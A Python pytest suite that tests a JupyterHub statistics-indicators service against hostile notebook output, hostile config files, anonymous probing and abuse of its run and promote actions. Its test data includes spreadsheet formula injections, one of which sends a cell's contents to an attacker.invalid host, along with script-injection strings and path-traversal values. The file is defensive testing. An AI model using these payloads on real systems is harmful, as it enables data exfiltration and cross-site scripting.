"""Attacks on the fast indicators by people who must not succeed: an owner whose notebook
writes hostile text or a hostile file, an anonymous visitor probing for what is not public,
a trainee or the owner themselves reaching for Run now / Promote, an indicator.yaml with a
hostile time zone or an endless backfill.

Runs are real (the library, kernels in the grading sandbox, the ``site`` fixture); the pages
are the real tornado app over the same library in this process. For the signed-in attacks the
hub's one answer the service needs (``GET /hub/api/user``: who holds this token) comes from a
stand-in served on the same loop: the hub is not what is under test, the service's checks are
(the same attacks through a real hub: tests/integration/test_indicators_service.py).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import threading
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import requests
from jupyterhub.services.auth import HubOAuth
from tornado import web

from statbox.classroom.people import Actor
from statbox.indicators import sdmx
from statbox.indicators.series import MAX_ROWS, OutputProblem, check_output, to_csv
from statbox.indicators.spec import IndicatorError, load_indicator
from statbox.indicators.store import IndicatorStore, RunRecord, new_run_id, now_iso
from statbox.indicators.web.app import ServiceConfig, make_app, template_environment
from statbox.modes.local.stack import free_port
from tests.indicators.conftest import ANA, INDICATOR, TRAINEE, Site, notebook, write_indicator

PREFIX = "/services/indicators/"
HEADER = ["FREQ", "REF_AREA", "INDICATOR", "TIME_PERIOD", "OBS_VALUE", "UNIT_MEASURE", "OBS_STATUS"]

HOSTILE = """\
import csv
with open(output, "w", newline="") as handle:
    writer = csv.writer(handle)
    writer.writerow({header!r})
    for area in {areas!r}:
        writer.writerow(["W", area, "PRICE", week, 1.5, "EUR", "A"])
"""

FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
MARKUP = "</svg><script>alert(1)</script>"


# ------------------------------------------------------------------ hostile output
def test_a_formula_or_markup_in_a_free_text_dimension_publishes_nothing(site: Site) -> None:
    """REF_AREA is free text: a notebook writing a spreadsheet formula or markup there must
    fail its run (SDMX ids are letters, digits, _ @ $ -; a formula would run in the
    spreadsheet of whoever opens the CSV download)."""
    write_indicator(
        site.root / "indicators",
        "shop-formula",
        "pilot",
        HOSTILE.format(header=HEADER, areas=["s1", FORMULA, MARKUP]),
    )
    record = site.indicators.run(ANA, "shop-formula", "2026-W02")
    assert record.outcome == "failed", record
    assert record.vintage is None
    assert "REF_AREA" in (record.error or ""), record.error
    assert IndicatorStore(site.state, "shop-formula").periods() == []


SERIES_ROW = "W,{area},PRICE,2026-W02,1.5,EUR,A\n"


@pytest.mark.parametrize(
    "area",
    [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "a\nb", MARKUP,
     "javascript:alert(1)", "a.b", "x" * 101],
)  # fmt: skip
def test_every_hostile_free_text_value_is_refused(site: Site, area: str) -> None:
    spec = site.indicators.get(ANA, "shop-weekly").spec
    data = (",".join(HEADER) + "\n").encode()
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(
        ["W", area, "PRICE", "2026-W02", "1.5", "EUR", "A"]
    )
    with pytest.raises(OutputProblem, match="REF_AREA"):
        check_output(data + out.getvalue().encode(), spec.series, "2026-W02")
    # and what a port or shop id looks like still passes
    ok = data + SERIES_ROW.format(area="KEMBA_2-b$@").encode()
    assert check_output(ok, spec.series, "2026-W02")[0]["REF_AREA"] == "KEMBA_2-b$@"


def test_a_fifo_as_the_output_is_refused_not_waited_on(site: Site) -> None:
    write_indicator(
        site.root / "indicators", "shop-fifo", "pilot", "import os\nos.mkfifo(output)\n"
    )
    record = site.indicators.run(ANA, "shop-fifo", "2026-W02")
    assert record.outcome == "failed" and "not a regular file" in (record.error or ""), record
    assert record.seconds < 120


# ------------------------------------------------------------------ hostile indicator.yaml
@pytest.mark.parametrize(
    ("change", "key"),
    [
        (("timezone: Europe/London", "timezone: ../../../../etc/passwd"), "schedule.timezone"),
        (("timezone: Europe/London", "timezone: /etc/localtime"), "schedule.timezone"),
        (("first: 2026-W01, last: 2026-W03", "first: 0001-W01, last: 9999-W52"), "backfill"),
    ],
)
def test_a_hostile_indicator_file_is_one_line_exit_2(
    tmp_path: Path, change: tuple[str, str], key: str
) -> None:
    folder = tmp_path / "shop-hostile"
    folder.mkdir()
    text = INDICATOR.format(id="shop-hostile", stage="pilot")
    assert change[0] in text
    (folder / "indicator.yaml").write_text(text.replace(*change))
    (folder / "indicator.ipynb").write_text(notebook("pass"))
    with pytest.raises(IndicatorError) as caught:
        load_indicator(folder)
    assert caught.value.exit_code == 2
    assert key in str(caught.value) and "Traceback" not in str(caught.value)


# ------------------------------------------------------------------ the pages
@dataclass
class Service:
    url: str
    config: ServiceConfig


class StandInUser(web.RequestHandler):
    """The hub's ``GET /hub/api/user``: the token ``tok-<name>`` is <name>."""

    def get(self) -> None:
        token = self.request.headers.get("Authorization", "").removeprefix("token ")
        if not token.startswith("tok-"):
            raise web.HTTPError(403)
        name = token.removeprefix("tok-")
        self.finish({"kind": "user", "name": name, "groups": [], "scopes": ["access:services"]})


@pytest.fixture(scope="module")
def service(site: Site) -> Iterator[Service]:
    publish_hostile(site.state, "shop-weekly")
    site.indicators.promote(Actor.operator(), "shop-weekly", "production")
    port, hub_port = free_port(), free_port()
    env = {
        "JUPYTERHUB_API_TOKEN": "service-token",
        "JUPYTERHUB_API_URL": f"http://127.0.0.1:{hub_port}/hub/api",
        "JUPYTERHUB_BASE_URL": "/",
        "JUPYTERHUB_SERVICE_PREFIX": PREFIX,
        "JUPYTERHUB_CLIENT_ID": "service-indicators",
        "JUPYTERHUB_OAUTH_CALLBACK_URL": f"{PREFIX}oauth_callback",
        "JUPYTERHUB_OAUTH_ACCESS_SCOPES": json.dumps(["access:services"]),
        "JUPYTERHUB_HOST": "",
    }
    config = ServiceConfig(PREFIX, site.indicators, template_environment)
    with pytest.MonkeyPatch.context() as mp:
        for name, value in env.items():
            mp.setenv(name, value)
        HubOAuth.clear_instance()  # configured from this environment, not another test's
        # the service asks the hub synchronously: the stand-in answers from a loop of its own
        hub = serve(web.Application([("/hub/api/user", StandInUser)]), hub_port)
        app = serve(make_app(config, cookie_secret=b"x" * 32), port)
        try:
            yield Service(f"http://127.0.0.1:{port}{PREFIX}", config)
        finally:
            for loop, thread in (app, hub):
                loop.call_soon_threadsafe(loop.stop)
                thread.join(10)
            config.runs.shutdown(wait=True)
            HubOAuth.clear_instance()


def serve(
    application: web.Application, port: int
) -> tuple[asyncio.AbstractEventLoop, threading.Thread]:
    """``application`` on 127.0.0.1:``port`` in a thread with its own loop."""
    loop = asyncio.new_event_loop()
    ready = threading.Event()

    def run() -> None:
        asyncio.set_event_loop(loop)
        application.listen(port, "127.0.0.1")
        loop.call_soon(ready.set)
        loop.run_forever()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    assert ready.wait(10)
    return loop, thread


def publish_hostile(state: Path, indicator: str) -> None:
    """A vintage with markup in it, as a store from before the output check may hold."""
    rows = "".join(
        f'W,"{area}",PRICE,2026-W01,{value},EUR,A\n'
        for area, value in (
            (MARKUP, 1.0),
            ("javascript:alert(1)", 2.0),
            (FORMULA.replace('"', '""'), 3.0),
        )
    )
    store = IndicatorStore(state, indicator)
    number = store.publish("2026-W01", (",".join(HEADER) + "\n" + rows).encode())
    store.save_run(
        RunRecord(
            run_id=new_run_id("2026-W01"),
            indicator=indicator,
            period="2026-W01",
            trigger="backfill",
            requested_by="ana",
            parameters={"week": "2026-W01"},
            code_sha256="0" * 64,
            started_at=now_iso(),
            finished_at=now_iso(),
            attempts=1,
            outcome="succeeded",
            error=MARKUP,
            vintage=number,
        )
    )


def test_markup_in_published_values_is_text_on_the_page_plot_and_downloads(
    service: Service,
) -> None:
    page = requests.get(f"{service.url}shop-weekly", timeout=30)
    assert page.status_code == 200
    assert "<script" not in page.text.lower(), "markup reached the page"
    assert 'href="javascript' not in page.text.lower()
    svgs = re.findall(r"<svg.*?</svg>", page.text, flags=re.S)
    assert svgs, "no plot"
    for svg in svgs:
        ET.fromstring(svg)  # well-formed: the markup stayed text inside the plot
    csp = page.headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "script-src" not in csp
    for fmt in ("csv", "sdmx-csv", "sdmx-json"):
        download = requests.get(f"{service.url}shop-weekly/download/{fmt}", timeout=30)
        assert download.status_code == 200, fmt
        assert download.headers["Content-Disposition"].startswith("attachment"), fmt
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        assert "html" not in download.headers["Content-Type"], fmt
    api = requests.get(f"{service.url}api/indicators/shop-weekly", timeout=30)
    assert api.headers["Content-Type"].startswith("application/json")


@pytest.mark.parametrize(
    "path",
    [
        "shop-poc", "SHOP-POC", "shop-poc/", "%73hop-poc", "shop-weekly/../shop-poc",
        "shop-weekly/%2e%2e/shop-poc", "api/indicators/shop-poc/", "api/indicators/SHOP-POC",
        "api/indicators/shop-poc/observations?vintage=first", "shop-poc/download/csv/",
        "shop-poc/download/CSV", "api/indicators/shop-poc/runs", "shop-poc/runs",
        "api/indicators/shop-poc/executed.ipynb", "shop-poc/runs/latest/executed.ipynb",
        "shop-pilot", "shop-wrong-column",
    ],
)  # fmt: skip
def test_anonymous_finds_nothing_of_what_is_not_public(service: Service, path: str) -> None:
    nothing = path.replace("shop-poc", "shop-none").replace("SHOP-POC", "SHOP-NONE")
    nothing = nothing.replace("shop-pilot", "shop-none").replace("shop-wrong-column", "shop-none")
    for method in ("GET", "HEAD"):
        response = requests.request(
            method, f"{service.url}{path}", allow_redirects=False, timeout=30
        )
        # the same answer as for an id that never existed (HEAD: 405 for both)
        like = requests.request(
            method, f"{service.url}{nothing}", allow_redirects=False, timeout=30
        )
        assert response.status_code == like.status_code, (method, path, response.status_code)
        assert response.status_code in (404, 405), (method, path, response.status_code)
        assert "Weekly shop prices" not in response.text and "PRICE" not in response.text


def as_person(service: Service, name: str, method: str, path: str, **kwargs) -> requests.Response:
    return requests.request(
        method,
        f"{service.url}{path}",
        headers={"Authorization": f"token tok-{name}"},
        allow_redirects=False,
        timeout=30,
        **kwargs,
    )


def test_the_owner_cannot_promote_their_own_indicator(service: Service) -> None:
    for stage in ("production", "pilot"):
        response = as_person(
            service, "ana", "POST", "api/indicators/shop-poc/promote", json={"stage": stage}
        )
        assert response.status_code == 403, response.text
    assert service.config.indicators.get(ANA, "shop-poc").stage == "poc"
    # a trainee does not even learn it exists
    response = as_person(
        service, TRAINEE.name, "POST", "api/indicators/shop-poc/promote", json={"stage": "pilot"}
    )
    assert response.status_code == 404


def test_a_trainee_cannot_run_a_public_indicator(service: Service) -> None:
    response = as_person(service, TRAINEE.name, "POST", "api/indicators/shop-weekly/run", json={})
    assert response.status_code == 403, response.text


def test_run_now_clicked_again_and_again_starts_one_run(service: Service) -> None:
    before = len(service.config.indicators.runs(ANA, "shop-weekly"))
    answers = [
        as_person(service, "ana", "POST", "api/indicators/shop-weekly/run", json={}).status_code
        for _ in range(5)
    ]
    assert answers[0] == 202 and set(answers[1:]) == {409}, answers
    deadline = time.monotonic() + 120
    while service.config.started and time.monotonic() < deadline:
        time.sleep(0.2)
    assert len(service.config.indicators.runs(ANA, "shop-weekly")) == before + 1
    # once it is over, Run now starts a run again (then waits for it: nothing left running)
    again = as_person(service, "ana", "POST", "api/indicators/shop-weekly/run", json={})
    assert again.status_code == 202
    while service.config.started and time.monotonic() < deadline:
        time.sleep(0.2)


def test_run_now_is_refused_where_the_service_may_not_run_notebooks(service: Service) -> None:
    """With only resource limits (no sandbox) the owner's notebook would run as the hub's
    account beside its secrets: the service then refuses Run now with the reason."""
    before = len(service.config.indicators.runs(ANA, "shop-weekly"))
    service.config.runs_refused = "running indicators here needs the sandbox"
    try:
        response = as_person(service, "ana", "POST", "api/indicators/shop-weekly/run", json={})
    finally:
        service.config.runs_refused = None
    assert response.status_code in (403, 409, 503), response.text
    assert "sandbox" in response.json()["message"]
    service.config.runs.shutdown(wait=True)  # a run started behind the answer would be done
    assert len(service.config.indicators.runs(ANA, "shop-weekly")) == before


# ------------------------------------------------------------------ an output at its largest
def largest(week: str) -> list[dict[str, str]]:
    """MAX_ROWS observations, each its own series: the most one run may publish."""
    return [
        {"FREQ": "W", "REF_AREA": f"s{i}", "INDICATOR": "PRICE", "TIME_PERIOD": week,
         "OBS_VALUE": f"{i}.5", "UNIT_MEASURE": "EUR", "OBS_STATUS": "A"}
        for i in range(MAX_ROWS)
    ]  # fmt: skip


def test_the_largest_output_downloads_as_sdmx_json_in_about_the_time_of_csv(site: Site) -> None:
    """Every download is computed on the service's one thread: a quadratic one held every
    visitor up for minutes."""
    series = site.indicators.get(ANA, "shop-weekly").spec.series
    rows = largest("2026-W02")
    started = time.perf_counter()
    sdmx.sdmx_csv("shop-weekly", series, rows)
    as_csv = time.perf_counter() - started
    started = time.perf_counter()
    message = json.loads(sdmx.sdmx_json("shop-weekly", "t", series, rows))
    as_json = time.perf_counter() - started
    assert len(message["dataSets"][0]["observations"]) == MAX_ROWS
    assert as_json < 10 * as_csv + 1.0, (as_json, as_csv)


@pytest.mark.xfail(
    strict=True,
    reason="hole: the page of 100 000 rows is small now (its latest values capped at "
    "MAX_LATEST, ~31 kB from ~12 MB) but still takes ~1.3 s of the service's only thread "
    "(reading the vintage, the plot): the rendering belongs off the loop, or cached",
)
def test_the_page_of_the_largest_output_stays_small_and_quick(service: Service) -> None:
    rows = largest("2026-W02")
    columns = list(rows[0])
    IndicatorStore(service.config.indicators.state_dir, "shop-weekly").publish(
        "2026-W02", to_csv(rows, columns)
    )
    started = time.perf_counter()
    page = requests.get(f"{service.url}shop-weekly", timeout=300)
    seconds = time.perf_counter() - started
    assert page.status_code == 200
    assert len(page.content) < 2 * 1024**2 and seconds < 1.0, (len(page.content), seconds)


def test_the_page_of_the_largest_output_lists_a_few_hundred_series_not_all(
    service: Service,
) -> None:
    rows = largest("2026-W02")
    IndicatorStore(service.config.indicators.state_dir, "shop-weekly").publish(
        "2026-W02", to_csv(rows, list(rows[0]))
    )
    page = requests.get(f"{service.url}shop-weekly", timeout=300)
    assert page.status_code == 200
    assert len(page.content) < 256 * 1024, len(page.content)  # was ~12 MB
    assert "more (downloads)" in page.text
